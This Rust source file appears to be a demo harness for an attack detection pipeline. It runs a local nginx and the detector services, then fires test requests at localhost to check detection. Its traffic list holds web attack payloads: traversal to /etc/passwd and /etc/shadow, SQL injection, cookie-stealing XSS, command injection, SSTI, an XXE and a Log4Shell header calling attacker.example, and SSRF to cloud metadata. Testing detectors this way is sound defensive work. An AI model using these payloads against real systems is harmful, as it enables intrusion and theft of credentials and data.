//! `cargo xtask demo`: the whole pipeline on this host, against a real nginx in its own cgroup.
use std::{
    io::{Read, Write},
    net::TcpStream,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use anyhow::Context;

use crate::{certs, setup, sh};

#[derive(clap::Args)]
pub struct Options {
    /// Leave everything running and say where to send traffic (Ctrl-C stops it).
    #[arg(long)]
    pub keep: bool,
    /// nginx port on 127.0.0.1 (HTTP/1.1); the next port serves HTTP/2 over TLS.
    #[arg(long, default_value_t = 18080)]
    pub port: u16,
}

const AGG: &str = "127.0.0.1:17001";
const PROC: &str = "127.0.0.1:17002";
const OPS: [(&str, &str); 3] = [
    ("agent", "127.0.0.1:19101"),
    ("aggregation", "127.0.0.1:19102"),
    ("processing", "127.0.0.1:19103"),
];

/// How a demo request travels.
#[derive(Clone, Copy, PartialEq)]
enum Via {
    /// HTTP/1.1 over plain TCP.
    Http1,
    /// HTTP/2 over TLS (ALPN); captured through the OpenSSL probes.
    Http2Tls,
}

/// A request the demo sends.
struct Probe {
    label: &'static str,
    via: Via,
    path: &'static str,
    /// An extra request header, `Name: value`.
    header: Option<&'static str>,
    /// Sent as a POST body with this content type.
    body: Option<(&'static str, &'static str)>,
    /// The attack type its event must have; `None`: benign, no event expected.
    expect: Option<&'static str>,
}

/// A benign GET of `path`; [`Probe::post`] makes it a POST, [`Probe::attack`] an attack.
const fn probe(label: &'static str, via: Via, path: &'static str) -> Probe {
    Probe {
        label,
        via,
        path,
        header: None,
        body: None,
        expect: None,
    }
}

impl Probe {
    const fn attack(mut self, kind: &'static str) -> Self {
        self.expect = Some(kind);
        self
    }
    const fn header(mut self, h: &'static str) -> Self {
        self.header = Some(h);
        self
    }
    const fn post(mut self, content_type: &'static str, body: &'static str) -> Self {
        self.body = Some((content_type, body));
        self
    }
}

/// What the demo sends: benign requests (no event expected) and one attack of each common type.
const TRAFFIC: &[Probe] = &[
    probe("home page", Via::Http1, "/"),
    probe("API lookup", Via::Http1, "/api/users?id=42&sort=name"),
    probe(
        "search with prose",
        Via::Http1,
        "/search?q=how+to+select+a+good+password+from+a+list",
    ),
    probe("JSON order", Via::Http1, "/api/orders").post(
        "application/json",
        r#"{"item":"O'Reilly: SQL in a nutshell","qty":2,"note":"ring & wait"}"#,
    ),
    probe("API over HTTP/2 + TLS", Via::Http2Tls, "/api/orders?limit=20"),
    probe("absolute path", Via::Http1, "/etc/passwd").attack("ptrav"),
    probe(
        "encoded traversal",
        Via::Http1,
        "/static/..%2f..%2f..%2fetc%2fpasswd",
    )
    .attack("ptrav"),
    probe(
        "double-encoded traversal",
        Via::Http1,
        "/download?file=..%252f..%252f..%252fetc%252fshadow",
    )
    .attack("ptrav"),
    probe(
        "windows file",
        Via::Http1,
        "/view?page=c:%5cwindows%5cwin.ini",
    )
    .attack("ptrav"),
    probe(
        "traversal over HTTP/2 + TLS",
        Via::Http2Tls,
        "/files?name=....//....//etc/passwd",
    )
    .attack("ptrav"),
    probe(
        "SQL injection",
        Via::Http1,
        "/api/users?id=42%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    )
    .attack("sqli"),
    probe("XSS in a form", Via::Http1, "/comments")
        .post(
            "application/x-www-form-urlencoded",
            "author=eve&text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        )
        .attack("xss"),
    probe(
        "command injection",
        Via::Http1,
        "/tools/ping?host=127.0.0.1%3Bid%3Buname%20-a",
    )
    .attack("rce"),
    probe("template injection (JSON)", Via::Http1, "/api/render")
        .post(
            "application/json",
            r#"{"greeting":"{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#,
        )
        .attack("ssti"),
    probe("XXE (XML)", Via::Http1, "/api/import")
        .post(
            "application/xml",
            r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]><r>&x;</r>"#,
        )
        .attack("xxe"),
    probe(
        "SSRF to cloud metadata",
        Via::Http1,
        "/fetch?url=http://169.254.169.254/latest/meta-data/",
    )
    .attack("ssrf"),
    probe("Log4Shell header, HTTP/2 + TLS", Via::Http2Tls, "/api/orders?limit=5")
        .header("User-Agent: ${jndi:ldap://attacker.example:1389/a}")
        .attack("java_injection"),
];

struct Procs(Vec<(String, Child)>);

impl Drop for Procs {
    fn drop(&mut self) {
        for (name, child) in self.0.iter_mut().rev() {
            let _ = Command::new("kill")
                .args(["-TERM", &child.id().to_string()])
                .status();
            let deadline = Instant::now() + Duration::from_secs(5);
            while Instant::now() < deadline {
                if let Ok(Some(_)) = child.try_wait() {
                    break;
                }
                std::thread::sleep(Duration::from_millis(50));
            }
            if let Ok(None) = child.try_wait() {
                eprintln!("demo: {name} did not stop in 5 s; killing it");
                let _ = child.kill();
                let _ = child.wait();
            }
        }
    }
}

fn cgroup2_root() -> anyhow::Result<PathBuf> {
    let mounts = std::fs::read_to_string("/proc/mounts")?;
    mounts
        .lines()
        .find_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.get(2) == Some(&"cgroup2")).then(|| PathBuf::from(f[1]))
        })
        .context("no cgroup2 mount in /proc/mounts")
}

fn http_get(addr: &str, path: &str) -> Option<String> {
    let mut s = TcpStream::connect(addr).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(2))).ok()?;
    write!(s, "GET {path} HTTP/1.0\r\nHost: x\r\n\r\n").ok()?;
    let mut out = String::new();
    s.read_to_string(&mut out).ok()?;
    Some(out)
}

fn wait_ready(name: &str, addr: &str, child: &mut Child, log: &Path) -> anyhow::Result<()> {
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        if http_get(addr, "/readyz")
            .is_some_and(|r| r.starts_with("HTTP/1.0 200") || r.starts_with("HTTP/1.1 200"))
        {
            return Ok(());
        }
        if let Ok(Some(status)) = child.try_wait() {
            let tail = std::fs::read_to_string(log).unwrap_or_default();
            anyhow::bail!(
                "{name} exited ({status}) before it was ready; its log ({}):\n{tail}",
                log.display()
            );
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    anyhow::bail!("{name} not ready after 30 s; see {}", log.display())
}

fn spawn(procs: &mut Procs, name: &str, cmd: &mut Command, logs: &Path) -> anyhow::Result<PathBuf> {
    let log = logs.join(format!("{name}.log"));
    let f = std::fs::File::create(&log)?;
    let child = cmd
        .stdout(f.try_clone()?)
        .stderr(f)
        .stdin(Stdio::null())
        .spawn()
        .with_context(|| format!("starting {name}"))?;
    procs.0.push((name.to_owned(), child));
    Ok(log)
}

fn nginx_conf(dir: &Path, port: u16, tls_port: u16) -> String {
    let d = dir.display();
    format!(
        "daemon off;\nmaster_process on;\nworker_processes 1;\nuser root;\npid {d}/nginx.pid;\nerror_log {d}/error.log;\n\
         events {{ worker_connections 256; }}\n\
         http {{\n  access_log {d}/access.log;\n  client_body_temp_path {d}/body;\n  proxy_temp_path {d}/proxy;\n\
           fastcgi_temp_path {d}/fastcgi;\n  uwsgi_temp_path {d}/uwsgi;\n  scgi_temp_path {d}/scgi;\n\
           server {{\n    listen 127.0.0.1:{port};\n    location / {{ return 200 \"demo app\\n\"; }}\n  }}\n\
           server {{\n    listen 127.0.0.1:{tls_port} ssl http2;\n    ssl_certificate {d}/tls.crt;\n    ssl_certificate_key {d}/tls.key;\n\
             location / {{ return 200 \"demo app\\n\"; }}\n  }}\n}}\n"
    )
}

pub fn run(o: Options) -> anyhow::Result<()> {
    setup::run()?;
    sh::run(sh::cargo().args([
        "build",
        "--release",
        "-p",
        "agent",
        "-p",
        "aggregation",
        "-p",
        "processing",
    ]))?;
    let certs = certs::run(false)?;
    let bin = sh::root().join("target/release");
    let demo = sh::root().join(".dev/demo");
    let _ = std::fs::remove_dir_all(&demo);
    let (nginx_dir, data, logs) = (demo.join("nginx"), demo.join("data"), demo.join("logs"));
    for d in [&nginx_dir, &data, &logs] {
        std::fs::create_dir_all(d)?;
    }
    let cgroup = cgroup2_root()?.join("wallarm-oob-demo");
    std::fs::create_dir_all(&cgroup)
        .with_context(|| format!("creating cgroup {} (run as root)", cgroup.display()))?;
    let tls_port = o.port + 1;
    let site = svc::devcerts::DevCa::new("wallarm-oob demo site CA")?;
    let (cert, key) = site.issue("localhost")?;
    std::fs::write(nginx_dir.join("tls.crt"), cert)?;
    std::fs::write(nginx_dir.join("tls.key"), key)?;
    std::fs::write(
        nginx_dir.join("nginx.conf"),
        nginx_conf(&nginx_dir, o.port, tls_port),
    )?;

    let mut procs = Procs(Vec::new());
    // nginx joins the demo cgroup before exec: only its traffic is captured.
    let nginx_cmd = format!(
        "echo $$ > {}/cgroup.procs && exec nginx -p {} -c {}/nginx.conf",
        cgroup.display(),
        nginx_dir.display(),
        nginx_dir.display()
    );
    spawn(
        &mut procs,
        "nginx",
        Command::new("sh").args(["-c", &nginx_cmd]),
        &logs,
    )?;
    let ops = |n: &str| {
        OPS.iter()
            .find(|(c, _)| *c == n)
            .map(|(_, a)| *a)
            .unwrap_or_default()
    };
    let tls = |n: &str| certs.join(n).display().to_string();
    let log = spawn(
        &mut procs,
        "processing",
        Command::new(bin.join("wallarm-oob-processing")).args([
            "serve",
            "--listen",
            PROC,
            "--tls-dir",
            &tls("processing"),
            "--data-dir",
            &data.display().to_string(),
            "--metrics-addr",
            ops("processing"),
        ]),
        &logs,
    )?;
    let last = procs.0.len() - 1;
    wait_ready("processing", ops("processing"), &mut procs.0[last].1, &log)?;
    let log = spawn(
        &mut procs,
        "aggregation",
        Command::new(bin.join("wallarm-oob-aggregation")).args([
            "--listen",
            AGG,
            "--processing",
            &format!("https://{PROC}"),
            "--tls-dir",
            &tls("aggregation"),
            "--metrics-addr",
            ops("aggregation"),
        ]),
        &logs,
    )?;
    let last = procs.0.len() - 1;
    wait_ready(
        "aggregation",
        ops("aggregation"),
        &mut procs.0[last].1,
        &log,
    )?;
    let log = spawn(
        &mut procs,
        "agent",
        Command::new(bin.join("wallarm-oob-agent")).args([
            "--aggregation",
            &format!("https://{AGG}"),
            "--tls-dir",
            &tls("agent"),
            "--cgroup",
            &cgroup.display().to_string(),
            "--metrics-addr",
            ops("agent"),
        ]),
        &logs,
    )?;
    let last = procs.0.len() - 1;
    wait_ready("agent", ops("agent"), &mut procs.0[last].1, &log)?;

    let base = format!("http://127.0.0.1:{}", o.port);
    println!("\nSending requests to nginx at {base} (captured in the kernel, not proxied):");
    let started = Instant::now();
    let tls_base = format!("https://127.0.0.1:{tls_port}");
    println!("(HTTP/1.1 to {base}, HTTP/2 over TLS to {tls_base})");
    for p in TRAFFIC {
        let mut curl = Command::new("curl");
        curl.args([
            "-s",
            "--path-as-is",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
        ]);
        if let Some(h) = p.header {
            curl.args(["-H", h]);
        }
        if let Some((content_type, body)) = p.body {
            curl.args(["-H", &format!("Content-Type: {content_type}")])
                .args(["--data-binary", body]);
        }
        let path = p.path;
        match p.via {
            Via::Http1 => curl.arg(format!("{base}{path}")),
            Via::Http2Tls => curl
                .args(["-k", "--http2"])
                .arg(format!("{tls_base}{path}")),
        };
        let out = sh::output(&mut curl);
        println!(
            "  {:<31} {:<4} {:<52} -> HTTP {}{}",
            p.label,
            if p.body.is_some() { "POST" } else { "GET" },
            shorten(path, 52),
            out.unwrap_or_else(|| "failed".into()),
            p.expect.map(|k| format!("  ({k})")).unwrap_or_default()
        );
    }
    let attacks = TRAFFIC.iter().filter(|p| p.expect.is_some()).count();
    let events_cmd = || {
        let mut c = Command::new(bin.join("wallarm-oob-processing"));
        c.args(["events", "--data-dir", &data.display().to_string()]);
        c
    };
    // Wait until every attack has its event (of the expected type, on its URI).
    let deadline = Instant::now() + Duration::from_secs(20);
    let (mut missed, mut alarms): (Vec<&Probe>, Vec<&Probe>);
    loop {
        let events: Vec<(String, String)> = sh::output(events_cmd().arg("--json"))
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .map(|v| {
                let field = |k: &str| v[k].as_str().unwrap_or_default().to_owned();
                (field("attack"), field("uri"))
            })
            .collect();
        let has = |p: &Probe, kind: Option<&str>| {
            events
                .iter()
                .any(|(a, u)| u == p.path && kind.is_none_or(|k| a == k))
        };
        (missed, alarms) = (Vec::new(), Vec::new());
        for p in TRAFFIC {
            match p.expect {
                Some(kind) if !has(p, Some(kind)) => missed.push(p),
                None if has(p, None) => alarms.push(p),
                _ => {}
            }
        }
        if missed.is_empty() || Instant::now() > deadline {
            break;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    println!(
        "\nDetected {} of {attacks} attacks with the expected type, {:.1?} after the first request; \
         false alarms on benign requests: {}\n",
        attacks - missed.len(),
        started.elapsed(),
        alarms.len()
    );
    sh::run(&mut events_cmd())?;
    println!("\nGrouped into attacks (type + host + path + point):\n");
    sh::run(Command::new(bin.join("wallarm-oob-processing")).args([
        "attacks",
        "--data-dir",
        &data.display().to_string(),
    ]))?;
    println!(
        "\nLogs: {}   Event store: {}",
        logs.display(),
        data.display()
    );
    if o.keep {
        println!(
            "\nStill running. Send traffic to {base} (e.g. curl --path-as-is '{base}/../../etc/passwd'),\n\
             list events with: {} events --data-dir {}\nmetrics: http://{}/metrics  http://{}/metrics  http://{}/metrics\nCtrl-C stops everything.",
            bin.join("wallarm-oob-processing").display(),
            data.display(),
            OPS[0].1,
            OPS[1].1,
            OPS[2].1
        );
        loop {
            std::thread::sleep(Duration::from_secs(3600));
        }
    }
    drop(procs);
    let _ = std::fs::remove_dir(&cgroup);
    if !missed.is_empty() || !alarms.is_empty() {
        let labels = |ps: &[&Probe]| ps.iter().map(|p| p.label).collect::<Vec<_>>().join(", ");
        anyhow::bail!(
            "missed attacks: [{}]; false alarms: [{}]; logs in {}",
            labels(&missed),
            labels(&alarms),
            logs.display()
        );
    }
    Ok(())
}

/// `s` cut to `n` characters for the table (`…` marks the cut).
fn shorten(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        return s.to_owned();
    }
    let mut out: String = s.chars().take(n - 1).collect();
    out.push('…');
    out
}
